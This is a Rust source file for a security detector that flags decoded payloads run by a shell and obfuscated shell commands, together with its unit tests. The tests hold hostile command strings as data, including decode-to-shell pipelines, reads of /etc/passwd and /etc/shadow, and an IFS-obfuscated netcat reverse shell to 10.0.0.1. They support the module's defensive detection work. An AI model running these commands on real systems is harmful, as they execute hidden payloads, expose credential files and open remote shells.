//! Decoding on the command line: `base64 -d`/`xxd -r`/`openssl base64 -d` piped into a shell,
//! or substituted where a shell runs it (`eval "$(base64 -d f)"`, `bash <(base64 -d f)`),
//! runs a hidden payload; a lone decode is weak evidence. `echo ... base64 -d` where the
//! decode is only text in echo's arguments is not a decode (the event-generator pattern).

use super::needles::Needles;
use super::{args, has_opt, is_printer, piped_into, Ctx, Findings, ProgramSet};
use crate::analysis::shell::{is_identifier, SimpleCommand};
use crate::knowledge::{signals, ToolClass};

fn decodes(c: &SimpleCommand) -> bool {
    match c.program() {
        "base64" | "base32" | "basenc" => {
            has_opt(c, &["-d", "--decode", "-D"]) || super::has_short(c, b'd')
        }
        // xxd(1) reads an option by its first letter: -r, -revert, --revert and -rp revert;
        // -p, -ps, -postscript, -plain and -pr are hex dumps.
        "xxd" => args(c)
            .iter()
            .any(|a| a.starts_with("-r") || a.starts_with("--r")),
        "uudecode" => true,
        "openssl" => args(c).iter().any(|a| a == "base64" || a == "enc") && has_opt(c, &["-d"]),
        _ => false,
    }
}

/// The program that runs the output of `cmds[i]`, a command in a substitution whose output
/// is the substitution's (nothing after it in a pipe): the command word itself
/// (`$(base64 -d f)`), `eval`/`.`/`source`, or a shell or interpreter given it as its script
/// (`bash <(..)`, `bash -c "$(..)"`). A substitution's commands come before the command
/// whose words hold it.
fn output_run_by<'c>(cmds: &'c [SimpleCommand], i: usize) -> Option<&'c str> {
    let c = &cmds[i];
    if !c.in_substitution || piped_into(cmds, i).is_some() {
        return None;
    }
    let holder = cmds[i + 1..]
        .iter()
        .find(|h| h.depth == c.depth && !h.in_substitution)?;
    // A word that is this command's substitution (`x=$(..)` leaves no word to hold it).
    let holds = |w: &str| {
        (w.starts_with("$(") || w.starts_with('`') || w.starts_with("<("))
            && c.argv.first().is_some_and(|p| w.contains(&**p))
    };
    if holder.argv.first().is_some_and(|w| holds(w)) {
        return Some("the shell, as a command");
    }
    let a = args(holder);
    let p = holder.program();
    let script = match holder.class {
        _ if matches!(p, "eval" | "." | "source") => a.iter().any(|w| holds(w)),
        Some(ToolClass::Shell | ToolClass::Interpreter) => {
            a.first().is_some_and(|w| w.starts_with("<(") && holds(w))
                || a.windows(2).any(|w| w[0] == "-c" && holds(&w[1]))
        }
        _ => false,
    };
    script.then_some(p)
}

pub fn wants(cx: &Ctx) -> bool {
    static DECODE_TEXT: Needles = Needles::new(&["base64 -d", "base64 --decode"]);
    cx.may_run(ProgramSet::of(&[
        "base64", "base32", "basenc", "xxd", "uudecode", "openssl",
    ])) || cx.words_may_hold(&DECODE_TEXT)
        || cx.script_text().is_some()
}

pub fn detect(cx: &Ctx, out: &mut Findings) {
    let cmds = cx.commands();
    for (i, c) in cmds.iter().enumerate() {
        let p = c.program();
        if decodes(c) {
            match piped_into(cmds, i) {
                Some(next)
                    if matches!(next.class, Some(ToolClass::Shell | ToolClass::Interpreter)) =>
                {
                    out.hit(
                        signals::DECODE_TO_SHELL,
                        format!("{} piped into {}", super::join(c), next.program()),
                    );
                }
                _ => match output_run_by(cmds, i) {
                    Some(by) => out.hit(
                        signals::DECODE_TO_SHELL,
                        format!("{} output run by {by}", super::join(c)),
                    ),
                    None => out.hit(signals::BASE64_DECODE, super::join(c)),
                },
            }
        } else if is_printer(p)
            && c.argv
                .iter()
                .skip(1)
                .any(|a| a.contains("base64 -d") || a.contains("base64 --decode"))
        {
            out.note(format!(
                "\"base64 -d\" appears only as text in the arguments of {p}: no decoding ran"
            ));
        }
    }
    if let Some(s) = cx.script_text() {
        static OBFUSCATION: Needles = Needles::new(&[
            "{base64,",
            "{echo,",
            "{bash,",
            "| rev)",
            "|rev)",
            "| rev`",
            "eval \"$(echo",
            "eval $(echo",
            "$'\\x",
            "$'\\1",
        ]);
        if let Some(k) = OBFUSCATION.find(s).or_else(|| ifs_in_word(s)) {
            out.hit(
                signals::SHELL_OBFUSCATION,
                format!("obfuscated shell command ({k})"),
            );
        }
    }
    if let Some(s) = cx.unsplit_script() {
        let dec = s.contains("base64 -d")
            || s.contains("base64 --decode")
            || s.contains("xxd -r")
            || s.contains("openssl enc -d")
            || s.contains("openssl base64 -d");
        if dec
            && ["| sh", "|sh", "| bash", "|bash", "| python", "|python"]
                .iter()
                .any(|k| s.contains(k))
        {
            out.hit(
                signals::DECODE_TO_SHELL,
                "decoded data piped into a shell (in the sh -c script)".to_string(),
            );
        } else if dec && !s.starts_with("echo ") {
            out.hit(
                signals::BASE64_DECODE,
                "decoding in the sh -c script".to_string(),
            );
        }
    }
}

/// `$IFS`/`${IFS}` standing for a space inside a command word (`cat${IFS}/etc/passwd`): word
/// text on both sides. Not alone as a word, nor in an assignment's value: the save/restore
/// idiom `OLDIFS=$IFS; IFS=,; ...; IFS=$OLDIFS` only moves the value around.
fn ifs_in_word(s: &str) -> Option<&'static str> {
    // Word boundaries, and the characters that are not word text. sh splits words on ASCII
    // blanks only (U+2000 is word text to it), and every boundary being one byte keeps the
    // `j + 1` below on a character boundary.
    let sep = |c: char| c.is_ascii_whitespace() || ";|&()<>`".contains(c);
    let text = |c: char| !sep(c) && !"=\"'".contains(c);
    ["${IFS}", "$IFS"].into_iter().find(|k| {
        s.match_indices(k).any(|(i, _)| {
            let before = s[..i].chars().next_back();
            let after = s[i + k.len()..].chars().next();
            // `$IFS_SAVE` is another variable (sh names are ASCII).
            let other_name =
                *k == "$IFS" && after.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_');
            let word = &s[s[..i].rfind(sep).map_or(0, |j| j + 1)..i];
            let assigned = word
                .split_once('=')
                .is_some_and(|(name, _)| is_identifier(name));
            !other_name
                && !assigned
                && before.is_some_and(text)
                && after.is_some_and(|c| text(c) || c == '"' || c == '\'')
        })
    })
}

#[cfg(test)]
mod tests {
    use super::super::testutil::*;
    use super::*;
    use crate::analysis::Lineage;

    /// A script past the parser's nesting bound: no command is split out of it, and the
    /// detector reads the raw text.
    fn unsplit(inner: &str) -> String {
        let deep = crate::analysis::shell::MAX_NESTING + 1;
        format!("{}{inner}{}", "(".repeat(deep), ")".repeat(deep))
    }

    #[test]
    fn fires_on_decode() {
        assert_eq!(
            run(detect, &["base64", "-d", "/tmp/p.b64"]),
            ["base64_decode"]
        );
        assert_eq!(
            run(detect, &["sh", "-c", "echo Y3VybCB4 | base64 -d | sh"]),
            ["decode_to_shell"]
        );
    }

    #[test]
    fn quiet_when_only_echo_text() {
        let (ids, notes) = run_with(
            detect,
            &facts(&["echo", "aGVsbG8= | base64 -d"]),
            &Lineage::default(),
        );
        assert!(ids.is_empty());
        assert!(notes[0].contains("only as text"));
        assert!(run(detect, &["base64", "/etc/hostname"]).is_empty());
    }

    #[test]
    fn every_decoder_is_a_decode() {
        for argv in [
            &["base64", "--decode", "/tmp/p"][..],
            &["base64", "-di", "/tmp/p"],
            &["base32", "-d", "/tmp/p"],
            &["basenc", "--base64", "-d", "/tmp/p"],
            &["xxd", "-r", "-p", "/tmp/p.hex"],
            &["uudecode", "/tmp/p.uu"],
            &["openssl", "base64", "-d", "-in", "/tmp/p"],
            &["openssl", "enc", "-base64", "-d", "-in", "/tmp/p"],
        ] {
            assert_eq!(run(detect, argv), ["base64_decode"], "{argv:?}");
        }
    }

    #[test]
    fn encoding_and_dumping_are_not_decodes() {
        for argv in [
            &["base64", "-w0", "/etc/ssl/certs/ca.pem"][..],
            &["base32", "/etc/hostname"],
            &["xxd", "/bin/ls"],
            &["xxd", "-p", "/etc/machine-id"],
            &["openssl", "base64", "-in", "cert.der"],
            &["openssl", "x509", "-in", "cert.pem", "-noout", "-dates"],
        ] {
            assert!(run(detect, argv).is_empty(), "{argv:?}");
        }
    }

    #[test]
    fn decode_piped_into_a_shell_or_interpreter() {
        for script in [
            "xxd -r -p /tmp/h | bash",
            "echo aGk= | base64 --decode | python3",
            "base64 -d <<< Y3VybCB4 | sh",
        ] {
            assert_eq!(
                run(detect, &["sh", "-c", script]),
                ["decode_to_shell"],
                "{script}"
            );
        }
        // Reading a Kubernetes secret: decoded into a pipe that only prints it.
        let secret =
            "kubectl get secret db -o jsonpath='{.data.password}' | base64 -d | tr -d '\\n'";
        assert_eq!(run(detect, &["sh", "-c", secret]), ["base64_decode"]);
    }

    #[test]
    fn fires_on_obfuscated_scripts() {
        for script in [
            "{echo,Y3VybCB4}|{base64,-d}|{bash,-i}",
            "cat${IFS}/etc/passwd",
            "$'\\x63\\x61\\x74' /etc/passwd",
        ] {
            assert_eq!(
                run(detect, &["bash", "-c", script]),
                ["shell_obfuscation"],
                "{script}"
            );
        }
        assert_eq!(
            run(
                detect,
                &["bash", "-c", "eval \"$(echo Y3VybCB4 | base64 -d | rev)\""]
            ),
            ["base64_decode", "shell_obfuscation"]
        );
        // rev on a plain pipeline, and IFS set without being expanded.
        assert!(run(detect, &["sh", "-c", "echo $HOME | rev"]).is_empty());
        assert!(run(
            detect,
            &[
                "sh",
                "-c",
                "while IFS=: read -r user _; do echo $user; done < /etc/passwd"
            ]
        )
        .is_empty());
    }

    #[test]
    fn reads_the_raw_text_of_an_unsplit_script() {
        let script = unsplit("echo Y3VybCB4 | base64 -d | sh");
        assert_eq!(run(detect, &["sh", "-c", &script]), ["decode_to_shell"]);
        let script = unsplit("base64 -d /tmp/p > /tmp/x");
        assert_eq!(run(detect, &["sh", "-c", &script]), ["base64_decode"]);
        // No decoder in the text; or the text only echoes the words.
        let script = unsplit("cat /etc/hosts | sort");
        assert!(run(detect, &["sh", "-c", &script]).is_empty());
        let script = format!("echo {}", unsplit("base64 -d x"));
        assert!(run(detect, &["sh", "-c", &script]).is_empty());
    }

    #[test]
    fn ifs_saved_and_restored_is_not_obfuscation() {
        for script in [
            r#"OLDIFS=$IFS; IFS=,; read -r a b <<< "$x"; IFS=$OLDIFS"#,
            r#"OLDIFS="${IFS}"; IFS=:; set -- $PATH; IFS="$OLDIFS""#,
            r#"IFS=",$IFS"; printf '%s' "$IFS" | od -c"#,
        ] {
            assert!(run(detect, &["sh", "-c", script]).is_empty(), "{script}");
        }
        // IFS standing for the spaces of a command.
        for script in [
            "cat$IFS/etc/passwd",
            "{cat,$IFS/etc/shadow}",
            "nc${IFS}-e${IFS}/bin/sh${IFS}10.0.0.1${IFS}4444",
            "x=1; cat${IFS}'/etc/passwd'",
            // A multi-byte space is word text to sh, not a boundary (found by the enrich_line
            // fuzzer: the word start was taken one byte past U+2000, inside it, and panicked).
            "cat\u{2000}x$IFS/etc/passwd",
            // sh names are ASCII: `$IFSé` is `$IFS` then `é`, and `é=a$IFS` no assignment.
            "cat$IFS\u{e9}/etc/passwd",
            "\u{e9}=a$IFS/etc/passwd",
        ] {
            assert_eq!(
                run(detect, &["sh", "-c", script]),
                ["shell_obfuscation"],
                "{script}"
            );
        }
    }

    #[test]
    fn xxd_reverts_only_by_its_r_option() {
        // xxd(1) reads an option by its first letter.
        for argv in [
            &["xxd", "-postscript", "/bin/ls"][..],
            &["xxd", "-ps", "-c", "32", "/bin/ls"],
            &["xxd", "-plain", "/bin/ls"],
            &["xxd", "-pr", "/bin/ls"],
        ] {
            assert!(run(detect, argv).is_empty(), "{argv:?}");
        }
        for argv in [
            &["xxd", "-revert", "-p", "/tmp/h"][..],
            &["xxd", "--revert", "/tmp/h"],
            &["xxd", "-rp", "/tmp/h"],
            &["xxd", "-p", "-r", "/tmp/h"],
        ] {
            assert_eq!(run(detect, argv), ["base64_decode"], "{argv:?}");
        }
    }

    #[test]
    fn decoded_text_substituted_where_a_shell_runs_it() {
        for (argv, evidence) in [
            (
                ["sh", "-c", r#"eval "$(base64 -d /tmp/p)""#],
                "base64 -d /tmp/p output run by eval",
            ),
            (
                ["sh", "-c", "bash <(base64 -d /tmp/p)"],
                "base64 -d /tmp/p output run by bash",
            ),
            (
                ["bash", "-c", "$(echo Y3VybCB4 | base64 -d)"],
                "base64 -d output run by the shell, as a command",
            ),
            (
                ["sh", "-c", r#"python3 -c "$(xxd -r -p /tmp/h)""#],
                "xxd -r -p /tmp/h output run by python3",
            ),
        ] {
            let f = facts(&argv);
            let lineage = Lineage::default();
            let cmd = crate::analysis::shell::parse_exec(&f.argv);
            let mut out = Findings::default();
            detect(&Ctx::new(&f, &lineage, &cmd), &mut out);
            let hits: Vec<_> = out
                .hits
                .iter()
                .map(|h| (h.signal.id, &*h.evidence))
                .collect();
            assert_eq!(hits, [("decode_to_shell", evidence)], "{argv:?}");
            assert_eq!(run(detect, &argv), ["decode_to_shell"]);
        }
        // Decoded into a variable, a printer or a file: not run.
        for script in [
            "x=$(base64 -d /tmp/p); echo \"$x\"",
            "echo \"$(base64 -d /tmp/p)\"",
            "x=$(base64 -d /tmp/p); bash -c \"$(cat /tmp/y)\"",
            "diff <(base64 -d /tmp/a) /tmp/b",
            "bash /opt/run.sh \"$(base64 -d /tmp/p)\"",
        ] {
            assert_eq!(
                run(detect, &["sh", "-c", script]),
                ["base64_decode"],
                "{script}"
            );
        }
    }
}
